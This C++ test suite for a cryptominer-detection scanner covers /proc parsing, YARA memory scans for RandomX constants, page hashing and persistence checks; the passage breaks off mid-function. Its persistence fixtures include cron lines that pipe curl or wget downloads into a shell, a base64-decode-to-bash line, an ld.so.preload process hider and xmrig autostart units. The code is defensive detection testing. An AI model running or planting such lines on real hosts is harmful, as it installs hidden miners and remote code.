// minerwatch — SPDX-License-Identifier: Apache-2.0
#include <arpa/inet.h>
#include <grp.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <random>
#include <set>
#include <thread>

#include "hostscan/host_monitor.h"
#include "hostscan/host_scanner.h"
#include "hostscan/memory_scanner.h"
#include "hostscan/page_db.h"
#include "hostscan/persistence.h"
#include "hostscan/proc_parsers.h"
#include "hostscan/process.h"
#include "match/yara_rules.h"

namespace mw::hostscan {
namespace {

namespace fs = std::filesystem;

// The RandomX Argon2 salt and AesGenerator1R key 0, built at run time so this test binary's
// own image does not carry them contiguously.
std::vector<uint8_t> RandomXBytes() {
  std::string salt = "RandomX";
  salt.push_back('\x03');
  const uint8_t key0[16] = {0x53, 0xA5, 0xAC, 0x6D, 0x09, 0x66, 0x71, 0x62,
                            0x2B, 0x55, 0xB5, 0xDB, 0x17, 0x49, 0xF4, 0xB4};
  std::vector<uint8_t> v(salt.begin(), salt.end());
  v.resize(64, 0x11);
  v.insert(v.end(), key0, key0 + 16);
  return v;
}

std::vector<uint8_t> RandomBuffer(size_t n, uint32_t seed) {
  std::mt19937_64 rng(seed);
  std::vector<uint8_t> b(n);
  for (size_t i = 0; i + 8 <= n; i += 8) {
    uint64_t r = rng();
    std::memcpy(&b[i], &r, 8);
  }
  return b;
}

fs::path TempDir(const std::string& name) {
  fs::path p = fs::temp_directory_path() / ("mw_hostscan_" + name + "_" + std::to_string(getpid()));
  fs::remove_all(p);
  fs::create_directories(p);
  return p;
}

void WriteFile(const fs::path& p, const std::string& text) {
  fs::create_directories(p.parent_path());
  std::ofstream(p) << text;
}

// ---- /proc parsers ----

TEST(ProcParsers, MapsLines) {
  std::string text =
      "00400000-00c5a000 r-xp 00000000 fe:00 1234   /tmp/x/kworker (deleted)\n"
      "7f0000000000-7f0000021000 rw-p 00000000 00:00 0 \n"
      "7ffd1000-7ffd2000 r--p 00000000 00:00 0      [vvar]\n"
      "garbage line\n"
      "7f00-7e00 r--p 0 0:0 0\n"  // end < start
      "7f0000100000-7f0000101000 rw-s 00000000 00:01 99 /memfd:x (deleted)";
  ParseStats st;
  auto maps = ParseMaps(text, &st);
  ASSERT_EQ(maps.size(), 4u);
  EXPECT_EQ(st.bad_lines, 2u);
  EXPECT_TRUE(maps[0].exec);
  EXPECT_TRUE(maps[0].deleted());
  EXPECT_EQ(maps[0].path, "/tmp/x/kworker (deleted)");
  EXPECT_EQ(maps[0].size(), 0x85a000u);
  EXPECT_EQ(maps[1].path, "");
  EXPECT_TRUE(maps[2].special());
  EXPECT_TRUE(maps[3].shared);
}

TEST(ProcParsers, SmapsAddsResidency) {
  std::string text =
      "00400000-00401000 r-xp 00000000 fe:00 1234 /usr/bin/x\n"
      "Size:                  4 kB\n"
      "Rss:                   4 kB\n"
      "Swap:                  0 kB\n"
      "VmFlags: rd ex mr mw me dw\n"
      "7f0000000000-7f4000000000 rw-p 00000000 00:00 0 \n"
      "Size:          268435456 kB\n"
      "Rss:                   8 kB\n"
      "Swap:                  4 kB\n";
  ParseStats st;
  auto maps = ParseMaps(text, &st);
  ASSERT_EQ(maps.size(), 2u);
  EXPECT_EQ(st.bad_lines, 0u);
  EXPECT_TRUE(maps[0].residency_known);
  EXPECT_EQ(maps[0].resident_bytes, 4096u);
  EXPECT_EQ(maps[1].resident_bytes, 12u * 1024);
  // Plain maps text has no residency.
  EXPECT_FALSE(
      ParseMaps("00400000-00401000 r-xp 00000000 fe:00 1234 /usr/bin/x\n")[0].residency_known);
}

TEST(ProcParsers, MapsTruncatedMidLine) {
  std::string text = "00400000-00c5a000 r-xp 00000000 fe:00 1234 /usr/bin/x\n00c5a000-00c";
  auto maps = ParseMaps(text);
  EXPECT_EQ(maps.size(), 1u);
}

TEST(ProcParsers, ProcNetV4AndV6) {
  std::string tcp =
      "  sl  local_address rem_address   st tx_queue rx_queue tr tm->when retrnsmt   uid  timeout "
      "inode\n"
      "   0: 0100007F:0CEA 00000000:0000 0A 00000000:00000000 00:00000000 00000000   118        0 "
      "21478 1 0000000000000000 100 0 0 10 0\n"
      "   1: 0F02000A:C350 2A01A8C0:0D05 01 00000000:00000000 00:00000000 00000000     0        0 "
      "99 1\n"
      "   2: truncated";
  ParseStats st;
  auto v4 = ParseProcNet(tcp, false, false, &st);
  ASSERT_EQ(v4.size(), 2u);
  EXPECT_EQ(st.bad_lines, 1u);
  EXPECT_EQ(v4[0].local.ToString(), "127.0.0.1");
  EXPECT_EQ(v4[0].local_port, 3306);
  EXPECT_EQ(v4[0].state, 10);
  EXPECT_EQ(v4[1].remote.ToString(), "192.168.1.42");
  EXPECT_EQ(v4[1].remote_port, 3333);
  EXPECT_EQ(v4[1].inode, 99u);
  std::string tcp6 =
      "  sl  local_address                         remote_address                        st\n"
      "   0: 00000000000000000000000001000000:0016 00000000000000000000000000000000:0000 0A "
      "00000000:00000000 00:00000000 00000000     0        0 555 1\n";
  auto v6 = ParseProcNet(tcp6, false, true);
  ASSERT_EQ(v6.size(), 1u);
  EXPECT_EQ(v6[0].local.ToString(), "::1");
  EXPECT_EQ(v6[0].inode, 555u);
}

TEST(ProcParsers, StatWithParensInComm) {
  std::string stat =
      "4242 (evil) (x) R 1 4242 4242 0 -1 4194560 100 0 0 0 1500 30 0 0 20 0 7 0 123456 "
      "1000000 200 18446744073709551615";
  auto st = ParseStat(stat);
  ASSERT_TRUE(st);
  EXPECT_EQ(st->comm, "evil) (x");
  EXPECT_EQ(st->ppid, 1);
  EXPECT_EQ(st->utime, 1500u);
  EXPECT_EQ(st->stime, 30u);
  EXPECT_EQ(st->num_threads, 7);
  EXPECT_EQ(st->start_time, 123456u);
  EXPECT_FALSE(ParseStat("4242 (x) R 1 2"));  // truncated
  EXPECT_FALSE(ParseStat(""));
}

TEST(ProcParsers, CgroupContainers) {
  std::string id(64, 'a');
  auto docker = ParseCgroup("0::/system.slice/docker-" + id + ".scope\n");
  EXPECT_EQ(docker.id, id);
  EXPECT_EQ(docker.runtime, "docker");
  auto k8s = ParseCgroup("0::/kubepods/burstable/pod1/" + id + "\n");
  EXPECT_EQ(k8s.runtime, "kubernetes");
  EXPECT_TRUE(ParseCgroup("0::/user.slice/user-0.slice/session-1.scope\n").id.empty());
}

TEST(ProcParsers, CmdlineAndSocketLink) {
  auto argv = ParseCmdline(std::string("xmrig\0-o\0pool:3333\0", 19));
  ASSERT_EQ(argv.size(), 3u);
  EXPECT_EQ(argv[2], "pool:3333");
  EXPECT_EQ(ParseSocketLink("socket:[123]"), 123u);
  EXPECT_FALSE(ParseSocketLink("pipe:[123]"));
  EXPECT_FALSE(ParseSocketLink("socket:[]"));
}

// ---- YARA ----

TEST(Yara, BuiltinRulesCompileAndMatchRandomX) {
  auto rules = match::YaraRules::Load(true, {});
  ASSERT_TRUE(rules) << rules.error().message();
  EXPECT_GE((*rules)->rule_count(), 12u);
  MemoryScanner scanner(*rules, MemScanOptions{});
  auto buf = RandomBuffer(1 << 20, 1);
  auto rx = RandomXBytes();
  std::copy(rx.begin(), rx.end(), buf.begin() + 500000);
  std::vector<match::RuleMatch> out;
  ASSERT_TRUE(scanner.ScanBuffer(buf, 0x10000000, &out));
  ASSERT_FALSE(out.empty());
  bool salt = false;
  for (const auto& m : out) {
    if (m.rule->name == "MW_RandomX_Argon2_Salt") {
      salt = true;
      EXPECT_EQ(m.address, 0x10000000u + 500000u);
    }
  }
  EXPECT_TRUE(salt);
}

TEST(Yara, NoMatchOnRandomOrZeroData) {
  auto rules = match::YaraRules::Load(true, {});
  ASSERT_TRUE(rules);
  MemoryScanner scanner(*rules, MemScanOptions{});
  std::vector<match::RuleMatch> out;
  auto buf = RandomBuffer(4 << 20, 2);
  ASSERT_TRUE(scanner.ScanBuffer(buf, 0, &out));
  std::vector<uint8_t> zeros(4 << 20, 0);
  ASSERT_TRUE(scanner.ScanBuffer(zeros, 0, &out));
  EXPECT_TRUE(out.empty());
}

TEST(Yara, MatchAcrossChunkBoundaryAndAfterZeroRun) {
  auto rules = match::YaraRules::Load(true, {});
  ASSERT_TRUE(rules);
  MemScanOptions o;
  o.chunk_bytes = 64 << 10;
  MemoryScanner scanner(*rules, o);
  std::vector<uint8_t> buf(1 << 20, 0);  // mostly zero pages: exercises zero skipping
  auto rx = RandomXBytes();
  size_t at = (64 << 10) - 20;  // straddles the first chunk boundary
  std::copy(rx.begin(), rx.end(), buf.begin() + at);
  std::vector<match::RuleMatch> out;
  ASSERT_TRUE(scanner.ScanBuffer(buf, 0, &out));
  ASSERT_FALSE(out.empty());
  EXPECT_EQ(out[0].address, at);
}

TEST(Yara, UserRuleErrorsNameTheFile) {
  fs::path dir = TempDir("badrule");
  WriteFile(dir / "bad.yar", "rule x {\n condition: nosuchthing\n}\n");
  auto rules = match::YaraRules::Load(false, {(dir / "bad.yar").string()});
  ASSERT_FALSE(rules);
  EXPECT_NE(rules.error().message().find("bad.yar:2"), std::string::npos)
      << rules.error().message();
  EXPECT_FALSE(match::YaraRules::Load(false, {(dir / "missing.yar").string()}));
  fs::remove_all(dir);
}

TEST(Yara, EverySharedDataRuleFileCompilesAndRuns) {
  fs::path dir = fs::path(MW_SHARED_DATA_DIR) / "yara";
  if (!fs::is_directory(dir)) GTEST_SKIP() << "shared test data not present at " << dir;
  size_t files = 0;
  for (const auto& e : fs::recursive_directory_iterator(dir)) {
    auto ext = e.path().extension();
    if (ext != ".yar" && ext != ".yara") continue;
    ++files;
    auto rules = match::YaraRules::Load(false, {e.path().string()});
    ASSERT_TRUE(rules) << e.path() << ": " << rules.error().message();
    match::YaraScanner scanner(*rules);
    std::vector<match::RuleMatch> out;
    auto buf = RandomBuffer(256 << 10, 3);
    EXPECT_TRUE(scanner.Scan(buf, 0, &out)) << e.path();
  }
  EXPECT_GE(files, 50u);
  // And all of them together with the builtin rules (one namespace per file).
  auto all = match::YaraRules::Load(true, {dir.string()});
  ASSERT_TRUE(all) << all.error().message();
  EXPECT_GT((*all)->rule_count(), 185u);
}

// ---- memory scanning of a live process ----

// A child that holds the RandomX bytes in its heap and waits.
pid_t SpawnHolder(int* ready_fd) {
  int p[2];
  if (pipe(p) != 0) return -1;
  pid_t pid = fork();
  if (pid == 0) {
    close(p[0]);
    auto* heap = new std::vector<uint8_t>(RandomXBytes());
    heap->resize(1 << 16, 0x22);
    char c = 'r';
    (void)!write(p[1], &c, 1);
    while (true) pause();
  }
  close(p[1]);
  *ready_fd = p[0];
  char c;
  (void)!read(p[0], &c, 1);
  return pid;
}

TEST(MemoryScanner, FindsRulesInAChildAndSkipsUnchangedRegions) {
  auto rules = match::YaraRules::Load(true, {});
  ASSERT_TRUE(rules);
  int fd;
  pid_t child = SpawnHolder(&fd);
  ASSERT_GT(child, 0);
  MemoryScanner scanner(*rules, MemScanOptions{});
  scanner.BeginPass();
  ProcessMemResult r = scanner.ScanProcess(child, "/", "");
  bool found = false;
  for (const auto& h : r.hits) found |= h.rule->name == "MW_RandomX_Argon2_Salt";
  EXPECT_TRUE(found);
  EXPECT_GT(r.stats.bytes_read, 0u);
  EXPECT_FALSE(r.exec_page_hashes.empty());
  EXPECT_FALSE(r.read_method.empty());
  // Second pass: nothing changed, so no region goes to YARA again, and the hit is kept.
  scanner.BeginPass();
  ProcessMemResult r2 = scanner.ScanProcess(child, "/", "");
  EXPECT_EQ(r2.stats.regions_scanned, 0u);
  EXPECT_GT(r2.stats.regions_unchanged + r2.stats.regions_shared_cached, 0u);
  found = false;
  for (const auto& h : r2.hits) found |= h.rule->name == "MW_RandomX_Argon2_Salt";
  EXPECT_TRUE(found);
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  close(fd);
  // The process is gone now: an error note, no crash.
  ProcessMemResult gone = scanner.ScanProcess(child, "/", "");
  EXPECT_TRUE(gone.hits.empty());
  EXPECT_FALSE(gone.errors.empty());
}

TEST(MemoryScanner, OneShotFindsTheSameWithoutKeepingRegions) {
  auto rules = match::YaraRules::Load(true, {});
  ASSERT_TRUE(rules);
  int fd;
  pid_t child = SpawnHolder(&fd);
  ASSERT_GT(child, 0);
  MemScanOptions o;
  o.one_shot = true;
  MemoryScanner scanner(*rules, o);
  for (int pass = 0; pass < 2; ++pass) {
    scanner.BeginPass();
    ProcessMemResult r = scanner.ScanProcess(child, "/", "");
    bool found = false;
    for (const auto& h : r.hits) found |= h.rule->name == "MW_RandomX_Argon2_Salt";
    EXPECT_TRUE(found);
    EXPECT_FALSE(r.exec_page_hashes.empty());
    // Nothing private is remembered, so a second pass scans again rather than trusting hashes.
    EXPECT_EQ(r.stats.regions_unchanged, 0u);
    EXPECT_GT(r.stats.regions_scanned, 0u);
  }
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  close(fd);
}

TEST(MemoryScanner, SkipsReservedButUntouchedMemory) {
  int p[2];
  ASSERT_EQ(pipe(p), 0);
  pid_t child = fork();
  if (child == 0) {
    close(p[0]);
    // 8 GiB reserved, never touched: must cost nothing to scan (Go, JVM and sanitizer runtimes
    // reserve terabytes this way).
    void* big = mmap(nullptr, 8ull << 30, PROT_READ | PROT_WRITE,
                     MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
    char c = big == MAP_FAILED ? 'f' : 'r';
    (void)!write(p[1], &c, 1);
    while (true) pause();
  }
  close(p[1]);
  char c = 0;
  ASSERT_EQ(read(p[0], &c, 1), 1);
  ASSERT_EQ(c, 'r');
  MemScanOptions o;
  o.hash_exec_pages = false;
  MemoryScanner scanner(nullptr, o);
  auto r = scanner.ScanProcess(child, "/", "");
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  close(p[0]);
  EXPECT_GE(r.stats.regions_untouched, 1u);
  EXPECT_FALSE(r.budget_exhausted);
  EXPECT_LT(r.stats.bytes_read, 1ull << 30);
}

// A child with 8 MiB of anonymous memory of which only the pages around the RandomX bytes
// (across the 512 KiB read-piece boundary) were ever touched.
pid_t SpawnSparseHolder(int* ready_fd, uint64_t* where) {
  int p[2];
  if (pipe(p) != 0) return -1;
  void* map = mmap(nullptr, 8 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (map == MAP_FAILED) return -1;
  // 4 KiB pages, so that only the two written pages become present.
  madvise(map, 8 << 20, MADV_NOHUGEPAGE);
  *where = reinterpret_cast<uintptr_t>(map);
  pid_t pid = fork();
  if (pid == 0) {
    close(p[0]);
    std::vector<uint8_t> x = RandomXBytes();
    std::copy(x.begin(), x.end(), static_cast<uint8_t*>(map) + (3 << 20) + (512 << 10) - 40);
    char c = 'r';
    (void)!write(p[1], &c, 1);
    while (true) pause();
  }
  munmap(map, 8 << 20);
  close(p[1]);
  *ready_fd = p[0];
  char c;
  (void)!read(p[0], &c, 1);
  return pid;
}

TEST(MemoryScanner, PagemapSkipsUntouchedPagesWithTheSameResult) {
  auto rules = match::YaraRules::Load(true, {});
  ASSERT_TRUE(rules);
  int fd = -1;
  uint64_t where = 0;
  pid_t child = SpawnSparseHolder(&fd, &where);
  ASSERT_GT(child, 0);
  auto hits_in_map = [&](const ProcessMemResult& r) {
    std::vector<std::pair<std::string, uint64_t>> v;
    for (const auto& h : r.hits) {
      if (h.address >= where && h.address < where + (8 << 20))
        v.emplace_back(h.rule->name, h.address);
    }
    return v;
  };
  // With pagemap first: the plain read below maps the zero page into every page it reads.
  MemScanOptions o;
  o.one_shot = true;
  MemoryScanner sparse(*rules, o);
  ProcessMemResult a = sparse.ScanProcess(child, "/", "");
  o.use_pagemap = false;
  MemoryScanner plain(*rules, o);
  ProcessMemResult b = plain.ScanProcess(child, "/", "");
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  close(fd);
  ASSERT_FALSE(hits_in_map(a).empty());
  EXPECT_EQ(hits_in_map(a), hits_in_map(b));
  EXPECT_EQ(a.stats.bytes_read, b.stats.bytes_read);
  EXPECT_EQ(a.stats.bytes_yara, b.stats.bytes_yara);
  EXPECT_GE(a.stats.bytes_not_present, 7u << 20);  // all but the two touched pages
  EXPECT_EQ(b.stats.bytes_not_present, 0u);
}

TEST(MemoryScanner, RefusesItself) {
  auto rules = match::YaraRules::Load(true, {});
  ASSERT_TRUE(rules);
  MemoryScanner scanner(*rules, MemScanOptions{});
  auto r = scanner.ScanProcess(getpid(), "/", "");
  EXPECT_EQ(r.stats.bytes_read, 0u);
  ASSERT_FALSE(r.errors.empty());
}

TEST(MemoryScanner, BudgetBoundsBytesRead) {
  MemScanOptions o;
  o.max_bytes_per_process = 64 << 10;
  o.hash_exec_pages = false;
  MemoryScanner scanner(nullptr, o);
  int fd;
  pid_t child = SpawnHolder(&fd);
  ASSERT_GT(child, 0);
  auto r = scanner.ScanProcess(child, "/", "");
  // Executable mappings are always read (page hashes); everything else stops at the budget.
  EXPECT_TRUE(r.budget_exhausted);
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  close(fd);
}

// ---- process inventory ----

TEST(Process, ReadsSelfWithSockets) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  ASSERT_GE(s, 0);
  sockaddr_in a{};
  a.sin_family = AF_INET;
  a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(s, reinterpret_cast<sockaddr*>(&a), sizeof a), 0);
  ASSERT_EQ(listen(s, 1), 0);
  socklen_t len = sizeof a;
  getsockname(s, reinterpret_cast<sockaddr*>(&a), &len);
  ProcReader reader(ReadOptions{});
  auto p = reader.Read(getpid());
  ASSERT_TRUE(p) << p.error().message();
  EXPECT_EQ(p->pid, getpid());
  EXPECT_EQ(p->exe_sha256.size(), 64u);
  EXPECT_FALSE(p->cmdline.empty());
  EXPECT_GE(p->threads, 1);
  bool listening = false;
  for (const auto& e : p->sockets) listening |= e.local_port == ntohs(a.sin_port) && e.state == 10;
  EXPECT_TRUE(listening);
  close(s);
  EXPECT_FALSE(reader.Read(0x7ffffff0));  // no such pid
}

TEST(Process, TruncatedProcFilesInFixtureRoot) {
  fs::path root = TempDir("proc");
  WriteFile(root / "proc/77/stat", "77 (half");  // truncated mid-file
  WriteFile(root / "proc/78/stat", "78 (ok) S 1 78 78 0 -1 0 0 0 0 0 5 5 0 0 20 0 1 0 99 0 0");
  WriteFile(root / "proc/78/cmdline", std::string("ok\0--x", 6));
  WriteFile(root / "proc/78/status", "Name:\tok\nUid:");  // cut before the numbers
  ProcReader reader(ReadOptions{.root = root.string()});
  EXPECT_FALSE(reader.Read(77));
  auto p = reader.Read(78);
  ASSERT_TRUE(p);
  EXPECT_EQ(p->comm, "ok");
  EXPECT_EQ(p->cmdline.size(), 2u);
  EXPECT_FALSE(p->unreadable.empty());  // no exe link in the fixture
  // A whole pass over the fixture root finds nothing and does not fail.
  HostScanOptions o;
  o.root = root.string();
  o.cpu_sample_ms = 0;
  o.check_system_binaries = false;
  HostAgent agent(o, nullptr, {});
  FindingEmitter& out = agent.findings();
  auto rep = agent.RunPass();
  EXPECT_EQ(out.size(), 0u);
  EXPECT_EQ(rep.processes, 1u);
  fs::remove_all(root);
}

TEST(HostScan, AnotherMinerwatchProcessIsNotScannedForOurOwnRules) {
  // A forked child runs this very executable, as a second minerwatch would: it holds the RandomX
  // bytes (as the service holds our compiled rules), yet must not be reported.
  auto rules = match::YaraRules::Load(true, {});
  ASSERT_TRUE(rules);
  int fd;
  pid_t child = SpawnHolder(&fd);
  ASSERT_GT(child, 0);
  HostScanOptions o;
  o.pids = {child};
  o.cpu_sample_ms = 0;
  o.scan_persistence = false;
  o.rules = *rules;
  HostAgent agent(o, nullptr, {});
  FindingEmitter& out = agent.findings();
  auto rep = agent.RunPass();
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  close(fd);
  EXPECT_EQ(out.size(), 0u);
  EXPECT_EQ(rep.processes_memory_scanned, 0u);
  bool noted = false;
  for (const auto& n : rep.notes)
    noted |= n.find("other minerwatch processes") != std::string::npos;
  EXPECT_TRUE(noted);
}

// A process that only handled pool names (a shell that ran `dig pool.supportxmr.com`, a resolver,
// a log reader) holds the strings of MW_Pool_And_Donation_Hosts, but no proof of work: never a
// stage-1 YARA finding, at most a low stage-0 one.
TEST(HostScan, PoolNamesAloneInMemoryAreNotStageOne) {
  if (access("/usr/bin/python3", X_OK) != 0) GTEST_SKIP() << "SKIP: python3 not installed";
  auto rules = match::YaraRules::Load(true, {});
  ASSERT_TRUE(rules);
  int ready[2];
  ASSERT_EQ(pipe(ready), 0);
  pid_t child = fork();
  ASSERT_GE(child, 0);
  if (child == 0) {
    dup2(ready[1], 1);
    const char* code =
        "import sys, time\n"
        "log = ''.join('q %d %s A\\n' % (i, h) for i in range(2000) for h in\n"
        "  ('pool.supportxmr.com', 'xmr.nanopool.org', 'gulf.moneroocean.stream', 'c3pool.com'))\n"
        "sys.stdout.write('ready\\n'); sys.stdout.flush(); time.sleep(60)\n";
    execl("/usr/bin/python3", "python3", "-c", code, static_cast<char*>(nullptr));
    _exit(127);
  }
  close(ready[1]);
  char buf[8] = {0};
  ASSERT_GT(read(ready[0], buf, sizeof buf - 1), 0);
  close(ready[0]);
  HostScanOptions o;
  o.pids = {child};
  o.cpu_sample_ms = 0;
  o.scan_persistence = false;
  o.rules = *rules;
  HostAgent agent(o, nullptr, {});
  FindingEmitter& out = agent.findings();
  agent.RunPass();
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  int strings = 0;
  for (const Finding& f : out.all()) {
    EXPECT_NE(f.stage, Stage::kMining) << f.category << " " << f.evidence.dump();
    if (f.category == category::kMinerStrings) {
      ++strings;
      EXPECT_EQ(f.severity, Severity::kLow);
      EXPECT_EQ(f.evidence["rules"][0]["rule"], "MW_Pool_And_Donation_Hosts");
    }
  }
  EXPECT_EQ(strings, 1) << "the pool names were not found in memory at all";
}

TEST(Process, PoolHostsInCmdline) {
  EXPECT_EQ(PoolHostsInCmdline({"./x", "-o", "stratum+tcp://pool.example.org:3333"}),
            std::vector<std::string>{"pool.example.org"});
  EXPECT_EQ(PoolHostsInCmdline({"./x", "--url=w.1@pool.b.org:443", "stratum+ssl://pool.a.org"}),
            (std::vector<std::string>{"pool.a.org", "pool.b.org"}));
}

// ---- page hashes ----

TEST(PageDb, AddBinaryMatchesRunningCopyAndSurvivesAppend) {
  fs::path dir = TempDir("pagedb");
  fs::path db_path = dir / "pagedb.txt";
  // /bin/sleep: a real ELF we can run.
  fs::path bin = "/bin/sleep";
  ASSERT_TRUE(fs::exists(bin));
  // Appending bytes must not change the pages (the ELF segments do not cover the tail).
  fs::path copy = dir / "renamed-copy";
  fs::copy_file(bin, copy);
  { std::ofstream(copy, std::ios::app) << std::string(10000, 'Z'); }
  fs::permissions(copy, fs::perms::owner_all);
  ASSERT_TRUE(AddBinaryToPageDb(bin.string(), "testfam", db_path.string()));
  auto db = PageDb::Load(db_path.string());
  ASSERT_TRUE(db) << db.error().message();
  ASSERT_EQ(db->binary_count(), 1u);
  EXPECT_GT(db->binaries()[0].pages, 0u);
  pid_t child = fork();
  if (child == 0) {
    execl(copy.c_str(), "renamed-copy", "30", nullptr);
    _exit(127);
  }
  usleep(200000);
  fs::remove(copy);  // deleted while it runs
  MemoryScanner scanner(nullptr, MemScanOptions{});
  auto r = scanner.ScanProcess(child, "/", "");
  auto hits = db->Match(r.exec_page_hashes, 20, 1);
  ASSERT_FALSE(hits.empty());
  EXPECT_EQ(hits[0].binary->family, "testfam");
  EXPECT_GT(hits[0].percent, 90.0);
  kill(child, SIGKILL);
  waitpid(child, nullptr, 0);
  fs::remove_all(dir);
}

TEST(PageDb, ParseErrorsAreClear) {
  EXPECT_FALSE(PageDb::Parse("not a db\n"));
  auto bad = PageDb::Parse("minerwatch-pagedb 1\nb 0 x " + std::string(64, 'a') +
                           " 2 n\np 0 00000000000000ff\n");
  ASSERT_FALSE(bad);  // header says 2 pages, one record: truncated
  EXPECT_NE(bad.error().message().find("truncated"), std::string::npos);
  EXPECT_FALSE(PageDb::Parse("minerwatch-pagedb 1\np 0 00000000000000ff\n"));
  EXPECT_FALSE(HashElfExecPages(AsBytes("hello")));
  auto empty = PageDb::Load("/nonexistent/pagedb.txt");
  ASSERT_TRUE(empty);
  EXPECT_EQ(empty->binary_count(), 0u);
}

// ---- persistence ----

TEST(Persistence, ClassifyLine) {
  std::vector<std::string> none;
  EXPECT_FALSE(ClassifyLine("*/5 * * * * curl -fsSL http://x.example/a.sh | sh", none).empty());
  EXPECT_FALSE(ClassifyLine("ExecStart=/opt/x/xmrig -o stratum+tcp://p:3333", none).empty());
  EXPECT_FALSE(ClassifyLine("echo " + std::string(100, 'A') + " | base64 -d | bash", none).empty());
  EXPECT_TRUE(
      ClassifyLine("17 * * * * root cd / && run-parts --report /etc/cron.hourly", none).empty());
  EXPECT_TRUE(ClassifyLine("ExecStart=/usr/sbin/sshd -D $SSHD_OPTS", none).empty());
  std::vector<std::string> miners = {"/var/tmp/.x/kworker"};
  EXPECT_FALSE(ClassifyLine("@reboot /var/tmp/.x/kworker", miners).empty());
}

TEST(Persistence, HostsInLine) {
  EXPECT_EQ(HostsInLine("*/5 * * * * curl -fsSL http://Dl.Example.COM:8080/a.sh | sh"),
            (std::vector<std::string>{"dl.example.com"}));
  EXPECT_EQ(HostsInLine("ExecStart=/opt/x -o stratum+tcp://user@pool.minexmr.com:4444 -p x"),
            (std::vector<std::string>{"pool.minexmr.com"}));
  EXPECT_EQ(HostsInLine("wget 198.51.100.7/x; wget 198.51.100.7/y"),
            (std::vector<std::string>{"198.51.100.7"}));
  // Versions, file names with numeric suffixes and out-of-range dotted quads are not hosts.
  EXPECT_TRUE(HostsInLine("run 1.2.3 and 999.1.1.1 then ./a.1 ..").empty());
  EXPECT_EQ(HostsInLine(std::string(100, 'a') + ".com").size(), 0u);  // label over 63
}

TEST(Persistence, LinesNamingHostsAreHandedToIntel) {
  fs::path root = TempDir("persist-intel");
  // Nothing here trips the built-in heuristics: only intel can tell the host is a dropper.
  WriteFile(root / "etc/cron.d/update",
            "*/15 * * * * root /usr/bin/fetchcfg dl.badhost.example\n"
            "0 3 * * * root /usr/bin/fetchcfg mirror.good.example\n");
  // Whether a host is listed is intel's call (the persistence detector's): the scan hands over
  // each line that names one, with the hosts it names.
  std::vector<std::string> errors;
  auto hits =
      ScanPersistence(PersistenceOptions{.root = root.string(), .with_hosts = true}, &errors);
  ASSERT_EQ(hits.size(), 2u);
  EXPECT_EQ(hits[0].line, 1u);
  EXPECT_TRUE(hits[0].reasons.empty());
  EXPECT_EQ(hits[0].hosts, std::vector<std::string>{"dl.badhost.example"});
  EXPECT_EQ(hits[1].hosts, std::vector<std::string>{"mirror.good.example"});
  EXPECT_TRUE(ScanPersistence(PersistenceOptions{.root = root.string()}, &errors).empty());
  fs::remove_all(root);
}

TEST(Persistence, FixtureRootFindsEachAndCleanRootNothing) {
  fs::path root = TempDir("persist");
  WriteFile(root / "etc/crontab",
            "SHELL=/bin/sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n"
            "*/10 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n");
  WriteFile(root / "etc/systemd/system/sysupdate.service",
            "[Unit]\nDescription=System update\n[Service]\n"
            "ExecStart=/usr/local/bin/sysupdate -o stratum+tcp://pool.example.org:3333 "
            "--donate-level 1\n[Install]\nWantedBy=multi-user.target\n");
  WriteFile(root / "etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
  WriteFile(root / "root/.ssh/authorized_keys",
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIG admin@host\n");
  std::vector<std::string> errors;
  auto hits = ScanPersistence(PersistenceOptions{.root = root.string()}, &errors);
  ASSERT_EQ(hits.size(), 3u);
  std::set<std::string> kinds;
  for (const auto& h : hits) kinds.insert(h.kind);
  EXPECT_EQ(kinds, (std::set<std::string>{"cron", "systemd", "ld.so.preload"}));
  for (const auto& h : hits) {
    if (h.kind == "cron") {
      EXPECT_EQ(h.line, 3u);
      EXPECT_EQ(h.attack, "T1053.003");
    }
    if (h.kind == "ld.so.preload") {
      EXPECT_EQ(h.attack, "T1574.006");
    }
  }
  // The same through a host pass: Persistence: Miner Autostart findings.
  HostScanOptions o;
  o.root = root.string();
  o.scan_memory = false;
  o.cpu_sample_ms = 0;
  HostAgent agent(o, nullptr, {});
  FindingEmitter& out = agent.findings();
  agent.RunPass();
  ASSERT_EQ(out.size(), 3u);
  for (const auto& f : out.all()) {
    EXPECT_EQ(f.category, category::kMinerAutostart);
    EXPECT_TRUE(f.evidence.contains("persistence"));
  }

  fs::path clean = TempDir("clean");
  WriteFile(clean / "etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
  WriteFile(clean / "etc/systemd/system/ssh.service", "[Service]\nExecStart=/usr/sbin/sshd -D\n");
  WriteFile(clean / "root/.bashrc", "alias ll='ls -l'\nexport PATH=$PATH:/usr/local/bin\n");
  EXPECT_TRUE(ScanPersistence(PersistenceOptions{.root = clean.string()}, &errors).empty());
  fs::remove_all(root);
  fs::remove_all(clean);
}

// ---- stopping promptly, and saying what could not be read ----

// A shell that looks like a miner by its command line and holds libc and its own image (a few
// MB: minutes at the read rates below). Not a fork of this test, which would be skipped as
// "another minerwatch process".
pid_t SpawnShellMiner() {
  pid_t pid = fork();
  if (pid == 0) {
    execl("/bin/sh", "/bin/sh", "-c", "while :; do sleep 1; done", "xmrig", "--donate-level", "1",
          nullptr);
    _exit(127);
  }
  // Until exec has happened the child is still a copy of this process.
  for (int i = 0; i < 200; ++i) {
    std::error_code ec;
